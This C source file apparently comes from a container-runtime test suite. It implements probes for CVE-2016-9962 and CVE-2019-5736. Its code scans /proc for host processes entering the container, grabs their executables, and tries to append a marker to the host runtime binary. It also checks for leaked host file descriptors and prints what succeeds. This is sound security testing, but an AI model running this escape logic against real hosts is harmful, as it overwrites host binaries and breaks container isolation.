/* Attacks on processes that join the container from outside (CVE-2016-9962, CVE-2019-5736). */
#define _GNU_SOURCE
#include "attack.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <unistd.h>

#define TMPFS_MAGIC 0x01021994 /* a memfd, too */

enum { HELD = 256, PIDS = 1 << 22 };

static int held[HELD], held_count;
static unsigned char seen[PIDS];
static dev_t own_device, target_device;
static ino_t own_inode, target_inode;

int reaches(int fd, const char *marker) {
    int at = openat(fd, ".", O_PATH | O_DIRECTORY | O_CLOEXEC), found = 0;
    struct stat previous = {0}, now;
    for (int level = 0; at >= 0 && level < 64 && !found; level++) {
        struct stat file;
        found = fstatat(at, marker + 1, &file, 0) == 0 || fstatat(at, strrchr(marker, '/') + 1, &file, 0) == 0;
        if (fstat(at, &now) || (now.st_ino == previous.st_ino && now.st_dev == previous.st_dev))
            break;
        previous = now;
        int up = openat(at, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        close(at);
        at = up;
    }
    if (at >= 0)
        close(at);
    return found;
}

/* Tries to write every executable held; one that is still busy (ETXTBSY) is kept for the next round. */
static void write_held(void) {
    for (int i = 0; i < held_count;) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        /* A detached mount that is still alive could be made writable again by anyone who may mount. */
        struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
        if (!syscall(SYS_mount_setattr, held[i], "", AT_EMPTY_PATH, &writable, sizeof writable))
            printf("REMOUNTED\n");
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0 && errno == ETXTBSY) {
            i++;
            continue;
        }
        if (fd < 0)
            printf("REFUSED %s\n", errno_name(errno));
        else {
            struct stat s;
            if (!fstat(fd, &s) && pwrite(fd, "attacked", 8, s.st_size) == 8)
                printf("WROTE\n");
            else
                printf("REFUSED %s\n", errno_name(errno));
            close(fd);
        }
        close(held[i]);
        held[i] = held[--held_count];
    }
}

static void look(const char *pid, const char *marker) {
    char path[600];
    struct stat s;
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int exe = open(path, O_PATH | O_CLOEXEC);
    if (exe < 0 || fstat(exe, &s) || (s.st_dev == own_device && s.st_ino == own_inode)) {
        if (exe >= 0)
            close(exe);
        return;
    }
    int number = atoi(pid);
    if (number < PIDS && !seen[number]) {
        seen[number] = 1;
        printf("SEEN %s\n", pid);
    }
    struct statfs f;
    int wanted = s.st_dev == target_device && s.st_ino == target_inode;
    if (!wanted && !fstatfs(exe, &f))
        wanted = f.f_type == TMPFS_MAGIC;
    if (wanted && held_count < HELD)
        held[held_count++] = exe;
    else
        close(exe);

    char directory[300];
    snprintf(directory, sizeof directory, "/proc/%s/fd", pid);
    DIR *d = opendir(directory);
    for (struct dirent *e; d && (e = readdir(d));) {
        snprintf(path, sizeof path, "%s/%s", directory, e->d_name);
        int fd = isdigit((unsigned char)*e->d_name) ? open(path, O_PATH | O_DIRECTORY | O_CLOEXEC) : -1;
        if (fd >= 0) {
            if (reaches(fd, marker))
                printf("REACHED fd %s\n", e->d_name);
            close(fd);
        }
    }
    if (d)
        closedir(d);
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, i ? "root" : "cwd");
        int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (fd >= 0) {
            if (reaches(fd, marker))
                printf("REACHED %s\n", i ? "root" : "cwd");
            close(fd);
        }
    }
}

int attack_snoop(int argc, char **argv) {
    unsigned long device, inode;
    if (argc != 4 || sscanf(argv[1], "%lu:%lu", &device, &inode) != 2)
        return 2;
    target_device = device, target_inode = inode;
    struct stat own;
    if (!stat("/proc/self/exe", &own))
        own_device = own.st_dev, own_inode = own.st_ino;
    printf("READY\n");
    while (access(argv[3], F_OK)) {
        DIR *proc = opendir("/proc");
        for (struct dirent *e; proc && (e = readdir(proc));)
            if (isdigit((unsigned char)*e->d_name) && strcmp(e->d_name, "1") && atoi(e->d_name) != getpid())
                look(e->d_name, argv[2]);
        if (proc)
            closedir(proc);
        write_held();
    }
    usleep(200000);
    write_held();
    printf("DONE\n");
    return 0;
}

int attack_naive(int argc, char **argv) {
    char path[64];
    if (argc != 4)
        return 2;
    snprintf(path, sizeof path, "/proc/%s/ns/pid", argv[1]);
    int ns = open(path, O_RDONLY | O_CLOEXEC), directory = open(argv[2], O_RDONLY | O_DIRECTORY);
    if (ns < 0 || directory < 0 || setns(ns, CLONE_NEWPID))
        return 1;
    pid_t child = fork();
    if (child == 0) {
        usleep((useconds_t)(atof(argv[3]) * 1e6));
        _exit(0);
    }
    return child < 0 || waitpid(child, NULL, 0) != child;
}
